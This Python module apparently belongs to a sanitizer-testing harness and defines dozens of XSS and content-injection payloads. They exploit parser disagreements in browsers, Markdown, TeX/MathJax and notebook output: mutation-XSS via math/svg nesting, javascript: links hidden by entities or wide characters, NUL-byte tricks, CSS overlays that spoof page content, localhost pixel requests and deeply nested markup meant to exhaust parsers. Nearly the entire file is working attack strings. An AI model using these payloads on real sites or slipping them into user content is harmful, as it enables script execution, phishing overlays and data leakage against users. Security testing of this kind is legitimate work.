"""Payloads at the corners where two parsers disagree, found by reading how each of them parses."""

from __future__ import annotations

from active_content.in_html import IMG
from active_content.payload import payloads

BY_BROWSERS = {
    "glyph in an option in a formula": (
        f"<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title='</style>{IMG}'></a>"
    ),
    "formula in foreignObject": (
        f"<svg><foreignObject><math><mi><mglyph><svg><mtext><style><a title='</style>{IMG}'>"
    ),
    "annotation with a style in it": (
        "<math><annotation-xml encoding='application/xhtml+xml'><style>"
        f"<img title='</style>{IMG}'></annotation-xml></math>"
    ),
    "form in a form of svg": f"<form><div></form><form><svg><form><path><style></form>{IMG}",
    "list in a table in a formula": f"<math><mi><li><table><mglyph><style><![CDATA[</style>{IMG}]]>",
    "template in a select": f"<select><template><style></select>{IMG}</style></template>",
    "caption in a caption": f"<table><caption><svg><desc><table><caption><style>{IMG}",
    "title of svg in a paragraph": f"<p><svg><title><p><style><a id='</style>{IMG}'>",
    "too deep for a browser": "<div>" * 530 + f"<svg><style><a title='</style>{IMG}'>",
    "deep formatting": "<b><i>" * 300 + IMG,
    "NUL in a name": "<\x00script>CANARY</script><img\x00 src=x: onerror=CANARY><i\x00mg src=x: onerror=CANARY>",
    "entity of NUL": "&#0;<img src=x: onerror=&#0;CANARY>&#60img src=x: onerror=CANARY&#62",
    "attribute that holds an end and a formula": '<b title="> &quot; onmouseover=CANARY $x$ ">x</b>',
    "custom element": "<x-y\nonmouseover=CANARY>x</x-y\nonmouseover=CANARY>",
    "root by a backslash": '<img src="\\labQUERY">',
    "above by backslashes": '<img src="..\\..\\..\\..\\..\\labQUERY">',
    "scheme without slashes": '<img src="http:a.b/../../../../../labQUERY">',
    "host in wide digits": '<img src="http://①②⑦.⓪.⓪.①:1/QUERY">',
    "box too low for its text": (
        "<div style='height:1px'><p style='background-color:#fff'>MARK<br>a<br>b<br>c<br>d<br>e<br>f</p></div>"
    ),
    "letter too large for its line": "<p style='font-size:900px;line-height:0;color:#eee'>█ MARK</p>",
    "letter far from its line": "<p style='height:1px;line-height:0'><b style='vertical-align:-400px'>MARK</b></p>",
    "table too large": "<table><tr><td colspan=1000 rowspan=65534>MARK</table>",
    "dots over dots": "<p>MARK a" + "\u0301" * 300 + "</p>",
    "namespace of a title": f"<svg><title><svg><style><a title='</title></style>{IMG}'></svg>",
    "annotation without an encoding": f"<math><annotation-xml><svg><foreignObject><style>{IMG}</style></svg></math>",
    "select with a template": f"<select><option><template><select>{IMG}</select></template></select>",
    "noscript in a head": f"<head><noscript><style></noscript>{IMG}</style></noscript></head>",
    "plaintext in svg": f"<svg><plaintext><a title='</plaintext></svg>{IMG}'>",
    "frames that are none": f"<table><noframes><table></noframes>{IMG}</table>",
    "entities without semicolons": "&ltimg src=x: onerror=CANARY&gt <a href='javascript&colonCANARY'>press</a> <a href='&#x6Aavascript:CANARY'>press</a>",
    "search box": "<search><form action=URL method=post><button formtarget=_top name=MARK>press</button></form></search>",
    "anchor of a style": "<p style='anchor-name:--x;position-anchor:--x;inset:0;position:absolute;background:#fff'>MARK</p>",
    "style by variables": "<p style='--x:fixed;position:var(--x);top:0;background:image(URL)'>MARK</p>",
    "style of old browsers": "<p style='behavior:url(URL);-moz-binding:url(URL);filter:url(URL)'>x</p>",
    "style of a counter": "<p style='content:url(URL);list-style-image:url(URL);border-image:url(URL) 1'>x</p>",
    "picture lent by a style": "<p style='background:-webkit-image-set(url(URL) 1x);mask:url(URL);cursor:url(URL),auto'>x</p>",
    "row that reaches down": "<table><tr><td rowspan=65534 colspan=1000 style='background:#fff'>MARK</td></tr></table>",
    "picture without measure": "<img src='a.png' width=99999 height=99999 alt=MARK>",
    "pixel of another site's page": "<img src='https:///127.0.0.1/QUERY'><img src='https:\\\\127.0.0.1\\QUERY'>",
    "relations of a link": "<a href='https://a.invalid' rel=opener target=_top ping=URL attributionsrc=URL>x</a>",
    "lazy picture": "<img loading=lazy src=x: srcset='URL 1x' sizes=1px fetchpriority=high onerror=CANARY>",
}
BY_MARKDOWN = {
    "data by reference": "[press][dataMARK] ![x][dataMARK]\n\n[dataMARK]: data:image/png;base64,iVBORw0KGgo=",
    "own server by itself": "http://localhost:1/QUERY <http://127.0.0.1:1/QUERY> www.localhost/QUERY ftp://a.invalid/MARK",
    "own server whose path is a handler": "<https://127.0.0.1/onmouseover=CANARY/x> <https://127.0.0.1/style=x/onclick=CANARY>",
    "footnote that is a link": "a[^javascript:CANARY] [^bMARK]\n\n[^bMARK]: [press](javascript:CANARY)",
    "reference in a reference": "[a][[b](javascript:CANARY)] [![x](javascript:CANARY)][cMARK]\n\n[cMARK]: vbscript:CANARY",
    "title over lines": '[press](# "a\nb" onclick=CANARY c="")',
    "attachment that leads away": "![x](attachment:../../../labQUERY) [x](attachment:javascript:CANARY)",
    "attachment by percent signs": "![x](attachment:%2e%2e/labQUERY) ![x](attachment:a%22onerror=CANARY)",
    "setext in a quote": f"> {IMG}\n> ---\n> ===\n\n- a {IMG}\n  ===",
    "html that ends late": f"<pre>\n\n{IMG}\n\n</pre>\n\n<!DOCTYPE x [\n\n{IMG}\n\n]>",
    "html in a cell of a table": f"| <b title='|'> {IMG} | '> |\n|-|-|\n| `<b title=|` {IMG} | |",
    "link over a table's cells": "| [a | b](javascript:CANARY) |\n|---|---|\n| [a | b](javascript:CANARY) |",
    "definition list with html": f"a {IMG}\n:   {IMG}\n:   [p](javascript:CANARY)",
    "heading that names itself": "# x {#MARK onclick=CANARY}\n\n## <a id=MARK></a> [p](#MARK)",
    "marks and superscripts": f"=={IMG}== ^{IMG}^ ~{IMG}~ ++{IMG}++ :{IMG}:",
    "directive of MyST": f":::{{raw}} html\n{IMG}\n:::\n\n{{raw:html}}`{IMG}`",
    "tabs and blanks that are none": f"\u2003{IMG}\u3000[p]\u00a0(javascript:CANARY) [p](\u3000javascript:CANARY)",
    "link in wide signs": "［p］（javascript:CANARY） [p]（javascript:CANARY） <ａ href=javascript:CANARY>p</ａ>",
    "definition over lines": "[press][x\nMARK]\n\n[x\nMARK]:\n<javascript:CANARY>\n'title'",
    "definition in a list": "[5MARK]\n\n- a\n\n  [5MARK]:\n  javascript:CANARY",
    "brackets in a link's text": "[a [b] \\[c](javascript:CANARY) [a\\](b)](javascript:CANARY)",
    "odd schemes by themselves": (
        "<JavaScript&colon;CANARY> <x-y+z.1:CANARY> <data:,CANARY> <view-source:javascript:CANARY>"
    ),
    "address with a quote": 'https://a.invalid/"onmouseover="CANARY www.a.invalid/"onmouseover="CANARY',
    "pipes in a table": "| a | b |\n|---|---|\n| `|` [p](java\\|script:CANARY) | [p](javascript:CANARY\\|) |",
    "block of one tag": f"<x-y\nonclick=CANARY>\n{IMG}\n</x-y>\n\n</x-y onclick=CANARY>",
    "heading below its text": f"{IMG} [p](javascript:CANARY)\n===\n\nMARK\n---",
    "heading named as a score": "# MARK",
    "numbered task": f"1. [ ] {IMG}\n2. [x] [p](javascript:CANARY)",
    "info of a block": '```c++ {onmouseover=CANARY} "><img src=x: onerror=CANARY>\nx\n```',
    "info by entities": "~~~ &quot;&gt;&lt;img&#32;src=x:&#32;onerror=CANARY&gt;\nx\n~~~",
    "diagram in a list": '- ```mermaid\n  graph TD\n  A["x"] --> B\n  click A "javascript:CANARY"\n  ```',
    "diagram by an entity": '```&#109;ermaid\ngraph TD\nA --> B\nclick A "javascript:CANARY"\n```',
    "diagram after a strange blank": '```\u00a0mermaid\ngraph TD\nA["<img src=x: onerror=CANARY>"]\n```',
    "strike through a link": "~~[a~~](javascript:CANARY)~~",
    "root by a backslash, link": "![x](\\\\labQUERY) ![x](..\\\\..\\\\..\\\\..\\\\labQUERY)",
}
BY_TEX = {
    "href in a box": "$\\mbox{\\href{javascript:CANARY}{a}} \\text{$\\href{javascript:CANARY}{a}$}$",
    "html of MathJax": "$\\class{btn MARK}{a} \\cssId{MARK}{b} \\style{position:fixed;inset:0}{MARK} \\data{link=MARK}{c}$",
    "macro by an active sign": "$\\catcode`\\!=13 \\def!{\\href{javascript:CANARY}{x}} !$",
    "name with a blank": "$\\href {javascript:CANARY}{a} \\href%\n{javascript:CANARY}{a} \\ href{javascript:CANARY}{a}$",
    "formula in a title": "![x](a.png '$\\href{javascript:CANARY}{a}$') <b title='$\\href{javascript:CANARY}{a}$'>x</b>",
    "fractions in fractions": "$" + "\\frac{1}{" * 120 + "MARK" + "}" * 120 + "$",
    "end of text": f"$\\text{{</mtext></math>{IMG}}}$",
    "choice": "$\\mathchoice{\\href{javascript:CANARY}{a}}{\\unicode{60}}{b}{c}$",
    "colour that is a style": "$\\color{red;background:url(URL)}{x} \\textcolor{red' onmouseover='CANARY}{y}$",
    "column that is an attribute": '$\\begin{array}{c" onmouseover="CANARY}x\\end{array}$',
    "raised": "$\\smash{\\raise{50em}{\\text{MARK}}} \\llap{\\text{MARK}\\kern 50em}$",
    "moved": "$\\hspace{-50em}\\text{MARK} \\raise 400pt\\hbox{MARK} \\lower 900px {\\text{MARK}}$",
    "rule": "$\\rule{3000px}{3000px}\\Rule{99em}{99em}{99em}\\text{MARK}$",
    "braces in braces": "$"
    + "{" * 1500
    + "x"
    + "}" * 1500
    + "$ $"
    + "\\sqrt{" * 300
    + "MARK"
    + "}" * 300
    + "$",
    "enclosed": "$\\enclose{box}[href='javascript:CANARY' mathcolor='red' onmouseover='CANARY']{x}$",
    "delimiters": "$\\DeclarePairedDelimiter{\\sum}{x}{\\href{javascript:CANARY}{y}} \\newtagform{a}{b}{c}$",
    "tag": f"$$x\\tag{{{IMG}}}$$ $\\eqref{{{IMG}}}$ $\\ref{{javascript:CANARY}}$",
}
SWALLOW = ["too deep for a browser", "deep formatting", "form in a form of svg", "table too large"]
USES = "".join(f"<g id='a{i}'>" + f"<use href='#a{i - 1}'/>" * 10 + "</g>" for i in range(1, 9))
BY_CODE = {
    "svg that uses itself": (
        "display({'image/svg+xml': \"<svg xmlns='http://www.w3.org/2000/svg'><defs>"
        f"<g id='a0'><text>MARK</text></g>{USES}</defs><use href='#a8'/></svg>\"}}, raw=True)"
    ),
    "error with a link of a terminal": "raise ValueError('\\x1b]8;;javascript:CANARY\\x07press\\x1b]8;;\\x07 \\x1b[38;5;\"CANARYm')",
    "error's name over lines": "raise type('E\\n</pre>$x$ <img src=x: onerror=CANARY>', (Exception,), {})('$\\\\href{javascript:CANARY}{x}$')",
    "latex that leads away": "display({'text/latex': '$\\\\mmlToken{mi}[href=\"javascript:CANARY\"]{x} \\\\require{html}$'}, raw=True)",
    "attribute that holds an end": "display({'text/html': '<b title=\"> &quot; onmouseover=CANARY $x$\">x</b>'}, raw=True)",
    "metadata that isolates": "display({'text/html': '<b>MARK</b>', 'text/plain': 'x'}, raw=True, metadata={'text/html': {'isolated': 1}, 'isolated': 'true'})",
    "slides": "display({'text/html': '<section data-background-iframe=URL data-state=MARK>x</section>'}, raw=True)",
}
IN_CORNERS = payloads(BY_BROWSERS | BY_MARKDOWN | BY_TEX, SWALLOW)
IN_CORNERS_OF_CODE = payloads(BY_CODE)
